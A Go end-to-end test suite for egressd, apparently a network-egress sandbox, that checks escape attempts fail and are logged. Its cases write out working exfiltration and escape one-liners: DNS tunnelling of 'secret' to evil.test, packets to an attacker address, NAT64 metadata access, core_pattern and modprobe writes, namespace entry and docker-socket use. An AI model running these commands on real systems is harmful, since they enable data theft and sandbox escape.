package run

import (
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/egressd/egressd/e2e/world"
	"github.com/egressd/egressd/policy"
)

// An escape is what a program under egressd run tries.
type escape struct {
	says, script string
	out          string // what the script has to print, among others
	host         string // that a record has to deny; empty: it makes no packet
	class        policy.Class
}

// tries runs e as a user, and looks at what it said, at what was recorded and at
// what left the gateway, which has to be nothing, questions for names included.
func tries(t *testing.T, d *world.Daemon, user string, e escape, flags ...string) *ran {
	t.Helper()
	wire, err := d.World.Wire.Mark()
	if err != nil {
		t.Fatal(err)
	}
	asked := d.World.Zone.Mark()
	r := runAs(t, d, user, e.script, flags...)
	if !strings.Contains(r.out, e.out) || r.code == 125 {
		t.Errorf("exit %d, printed %q (%s), want %q", r.code, r.out, r.talk, e.out)
	}
	if e.host != "" && r.denied(e.host, e.class) == 0 {
		t.Errorf("nothing denies %s as %s: %+v", e.host, e.class, r.records)
	}
	if names := d.World.Zone.Since(asked); len(names) > 0 {
		t.Errorf("asked for %q", names)
	}
	packets, err := d.World.Wire.Since(wire)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range packets {
		t.Errorf("sent %v", p)
	}
	return r
}

func allTry(t *testing.T, d *world.Daemon, escapes []escape, flags ...string) {
	for user := range world.Users {
		for _, e := range escapes {
			t.Run(user+"/"+e.says, func(t *testing.T) { tries(t, d, user, e, flags...) })
		}
	}
}

// TestEscapesByPackets tries transports and destinations that capture could have
// forgotten.
func TestEscapesByPackets(t *testing.T) {
	allTry(t, world.NewDaemon(t, world.RunPolicy), []escape{
		{"the port that connections are captured on", `for a in 127.0.0.1 100.127.0.1; do echo x | socat -t1 - TCP:$a:1 2>&1; done; echo x | socat -t1 - 'TCP6:[::1]:1' 2>&1; echo done`, "done", "", ""},
		{"that port, of somebody else", `echo x | socat -t1 - TCP:151.101.1.69:1 2>&1; echo done`, "done", world.EvilIPv4, policy.DefaultDeny},
		{"that port, by datagrams", `echo x | socat -t1 - UDP:127.0.0.1:1 2>&1; echo done`, "done", "", ""},
		{"an address in another notation", `python3 -c '
import socket
s = socket.socket(); s.settimeout(9)
try: s.connect((str(0x97650145), 443)); s.sendall(b"x" * 99); print("got", s.recv(9))
except OSError as e: print("refused", e)
'`, "refused", world.EvilIPv4, policy.DefaultDeny},
		{"an IPv4 address in an IPv6 one", `echo x | socat -t1 - 'TCP6:[::ffff:151.101.1.69]:443' 2>&1; echo done`, "done", world.EvilIPv4, policy.DefaultDeny},
		{"metadata through NAT64", `echo x | socat -t1 - 'TCP6:[64:ff9b::a9fe:a9fe]:80' 2>&1; echo done`, "done", "64:ff9b::a9fe:a9fe", policy.AddressDenied},
		{"a source route", `python3 -c '
import socket
s = socket.socket(); s.settimeout(9)
try:
    s.setsockopt(0, 4, bytes([131, 7, 4, 151, 101, 1, 69, 1]))
    s.connect(("93.184.216.34", 9)); s.sendall(b"x" * 99); print("got", s.recv(9))
except OSError as e: print("refused", e)
'`, "refused", "", ""},
		{"data in the first packet", `python3 -c '
import socket, struct
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 9, 0)) # one with settimeout would not wait
try: s.sendto(b"secret" * 9, 0x20000000, ("151.101.1.69", 9)); print("got", s.recv(9))
except OSError as e: print("refused", e)
'`, "refused", world.EvilIPv4, policy.DefaultDeny},
		{"several paths", `python3 -c '
import socket
s = socket.socket(2, 1, 262); s.settimeout(9)
try: s.connect(("151.101.1.69", 9)); s.sendall(b"x" * 99); print("got", s.recv(9))
except OSError as e: print("refused", e)
'`, "", world.EvilIPv4, policy.DefaultDeny},
		{"other transports", `python3 -c '
import socket
for f in (2, 10):
    for kind, protocol in ((1, 132), (5, 0), (5, 132), (6, 0), (6, 33), (2, 136), (3, 47), (3, 255)):
        try: socket.socket(f, kind, protocol); print("made", f, kind, protocol)
        except OSError as e: pass
print("none")
'`, "none\n", "", ""},
		{"marks and devices", `python3 -c '
import socket
for level, option, value in ((1, 36, b"\1\0\0\0"), (1, 25, b"lo\0"), (0, 19, b"\1\0\0\0"), (0, 15, b"\1\0\0\0"), (41, 75, b"\1\0\0\0")):
    s = socket.socket(10 if level == 41 else 2)
    try: s.setsockopt(level, option, value)
    except OSError as e: pass
    s.settimeout(9)
    try: s.connect(("151.101.1.69", 9) if level != 41 else ("2606:4700:4700::1111", 9)); s.sendall(b"x" * 99); print("got", s.recv(9))
    except OSError as e: print("refused")
'`, "refused\n", world.EvilIPv4, policy.DefaultDeny},
		{"a network of its own", `unshare -Urn sh -c 'ip link set lo up; ip link add d type dummy; ip addr add 10.99.0.9/24 dev d; ip link set d up; ip route add default dev d; curl -sS -m2 http://151.101.1.69/' 2>&1; echo done`, "done", "", ""},
		{"long names", `for i in 1 2 3; do dig +short +time=3 +tries=1 $(head -c30 /dev/urandom | od -An -tx1 | tr -d ' \n').evil.test; done; echo done`, "done", "", ""},
		{"a name server's types", `for t in NULL TXT KEY SRV MX CNAME PTR SOA ANY HTTPS SVCB AXFR; do dig +noall +comments +time=3 +tries=1 c2VjcmV0.evil.test $t; done | grep -c 'status: NOERROR'; echo done`, "done", "", ""},
	})
}

// TestEscapesByTheKernel asks the kernel for what it does outside of namespaces.
func TestEscapesByTheKernel(t *testing.T) {
	allTry(t, world.NewDaemon(t, world.RunPolicy), []escape{
		{"keys", `python3 -c '
import ctypes, errno
c = ctypes.CDLL(None, use_errno=True)
import platform
first = {"x86_64": 248, "aarch64": 217}[platform.machine()]
for args in ((first, b"user", b"k", b"v", 1, -3), (first + 1, b"dns_resolver", b"secret.evil.test", b"", -3), (first + 2, 0, -3, 0)):
    print(c.syscall(*args), errno.errorcode[ctypes.get_errno()])
'`, "-1 ENOSYS\n-1 ENOSYS\n-1 ENOSYS\n", "", ""},
		{"programs with set-user-ID", `for p in 'su -c id' 'sudo -n id' 'ping -c1 -W1 151.101.1.69' 'newuidmap 1 0 0 1' 'crontab -l' 'at now' 'pkexec id' 'mount -t tmpfs x /mnt' 'fusermount3 -V'; do timeout 5 $p </dev/null 2>&1; done | grep 'uid=0(root) gid=0(root) groups=.*,' ; echo done`, "done", "", ""},
		{"what the kernel runs for a core dump", `python3 -c '
import os
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/net/ipv4/ip_unprivileged_port_start", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger"):
    try: os.close(os.open(path, os.O_WRONLY)); print("opened", path)
    except OSError as e: print("refused")
'`, "refused\nrefused\nrefused\nrefused\nrefused\n", "", ""},
		{"mounts of its own", `unshare -Urm sh -c 'umount runs; umount -l runs; mkdir -p m; mount --bind . m; ls m/runs; ls runs' 2>/dev/null; mkdir -p m u w; unshare -Urm sh -c "mount -t overlay x -o lowerdir=$PWD,upperdir=$PWD/u,workdir=$PWD/w m; ls m/runs" 2>/dev/null; echo done`, "done\n", "", ""},
		{"namespaces of others", `for p in 1 $PPID; do for n in net user mnt pid; do nsenter --$n=/proc/$p/ns/$n true 2>/dev/null && test "$(readlink /proc/$p/ns/$n)" != "$(readlink /proc/self/ns/$n)" && echo entered $n; done; done; echo done`, "done\n", "", ""},
		{"virtual machines", `python3 -c '
import socket, os
for path in ("/dev/vhost-vsock",):
    try: print("opened" if os.fstat(os.open(path, os.O_RDWR)).st_rdev != os.stat("/dev/null").st_rdev else "refused")
    except OSError: print("refused")
'`, "refused\n", "", ""},
	})
}

// TestEscapesByFiles goes for what egressd reads the next time, and what it has
// written.
func TestEscapesByFiles(t *testing.T) {
	d := world.NewDaemon(t, world.RunPolicy)
	before := fileText(t, d.Config)
	allTry(t, d, []escape{
		{"the folder above", `mv $PWD ../moved 2>/dev/null; mv "$PWD" "${PWD}2" 2>/dev/null; rm -rf egressd.yaml; test -s "$PWD/egressd.yaml" && echo kept`, "kept", "", ""},
		{"the program that decides", `p=$(readlink -f "$EGRESSD"); { echo x >>"$p"; mv "$p" "$p.x"; rm -f "$p"; } 2>/dev/null; test -x "$p" && test ! -e "$p.x" && echo kept`, "kept", "", ""},
		{"by another name", `ln egressd.yaml link 2>/dev/null && echo x >>link; ln -s egressd.yaml soft; echo x >>soft; rm -f soft; echo done`, "done", "", ""},
	})
	if after := fileText(t, d.Config); after != before {
		t.Errorf("the policy is now %q", after)
	}
	if _, err := os.Stat(d.Dir); err != nil {
		t.Error(err)
	}
}

func fileText(t *testing.T, path string) string {
	t.Helper()
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// TestEscapesByWhatWasOpenBefore starts egressd with a folder that its mounts do
// not cover.
func TestEscapesByWhatWasOpenBefore(t *testing.T) {
	d := world.NewDaemon(t, world.RunPolicy)
	for user := range world.Users {
		t.Run(user, func(t *testing.T) {
			runAs(t, d, user, "true") // leaves a log
			r := runFrom(t, d, user, `exec 9<. && exec "$@"`, `ls /proc/self/fd/9/runs/*/ 2>&1; echo x >>/proc/self/fd/9/egressd.yaml; ls /proc/self/fd | grep -c '^9$'`)
			if strings.Contains(r.out, ".log") || !strings.HasSuffix(r.out, "0\n") {
				t.Errorf("printed %q %q", r.out, r.talk)
			}
			r = runFrom(t, d, user, `exec <. && exec "$@"`, `ls -l /proc/self/fd/0`)
			if r.code != 125 || r.out != "" {
				t.Errorf("with a folder as input: exit %d, %q %q", r.code, r.out, r.talk)
			}
			for _, row := range []struct {
				kind string
				code int
			}{{"socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)", 125}, {"[socket.socket(socket.AF_UNIX)] * 2", 125}, {"socket.socketpair()", 0}, {"socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)", 0}} {
				r = runFrom(t, d, user, `exec python3 -c 'import os, socket, sys; a, b = `+row.kind+`; os.dup2(b.fileno(), 0); os.set_inheritable(0, True); os.execvp(sys.argv[1], sys.argv[1:])' "$@"`, `echo began`)
				if r.code != row.code || (r.out == "began\n") != (row.code == 0) {
					t.Errorf("with %s as input: exit %d, %q %q", row.kind, r.code, r.out, r.talk)
				}
			}
			r = runFrom(t, d, user, `cd runs/* && exec "$@"`, `ls -l; echo x >>00000001.log; ls -l .. `)
			if strings.Contains(r.out, ".log") {
				t.Errorf("from among the logs: exit %d, %q %q", r.code, r.out, r.talk)
			}
		})
	}
}

// runFrom runs a script under egressd run, which another one starts.
func runFrom(t *testing.T, d *world.Daemon, user, starter, script string, flags ...string) *ran {
	t.Helper()
	inside := jailed(t.Context(), d, user, flags, "sh", "-c", script)
	as := len(world.Users[user])
	words := slices.Concat(inside.Args[:as], []string{"sh", "-c", starter, "sh"}, inside.Args[as:])
	cmd := exec.CommandContext(t.Context(), words[0], words[1:]...)
	cmd.Dir, cmd.Env = inside.Dir, inside.Env
	var out, talk strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &talk
	if err := d.World.Gateway.Run(cmd); err != nil && cmd.ProcessState == nil {
		t.Fatal(err)
	}
	return &ran{out: out.String(), talk: talk.String(), code: codeOf(cmd.ProcessState), records: lastRun(t, d)}
}

// TestEscapesBySockets has somebody outside who would do anything for who asks.
func TestEscapesBySockets(t *testing.T) {
	d := world.NewDaemon(t, world.RunPolicy)
	path := filepath.Join(d.Dir, "docker.sock")
	l, err := d.World.Gateway.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	world.Serve(t, l, func(c net.Conn) { io.WriteString(c, "at your service\n") })
	if err := os.Chmod(path, 0o666); err != nil {
		t.Fatal(err)
	}
	for variable, value := range map[string]string{"DOCKER_HOST": "unix://" + path, "DBUS_SESSION_BUS_ADDRESS": "unix:path=" + path + ",guid=1", "TMUX": path + ",1,0"} {
		t.Setenv(variable, value)
		for user := range world.Users {
			t.Run(user+"/"+variable, func(t *testing.T) {
				tries(t, d, user, escape{out: "socat: E", script: `socat -t1 - UNIX-CONNECT:docker.sock </dev/null 2>&1 | sed 's/^.* socat\[[0-9]*\]/socat:/'; rm -f docker.sock; mv docker.sock d 2>/dev/null`})
				r := runAs(t, d, user, `socat -t1 - UNIX-CONNECT:docker.sock </dev/null 2>&1`, "--host-socket", path)
				if r.out != "at your service\n" {
					t.Errorf("with the socket kept: %q %q", r.out, r.talk)
				}
			})
		}
		os.Unsetenv(variable)
	}
}
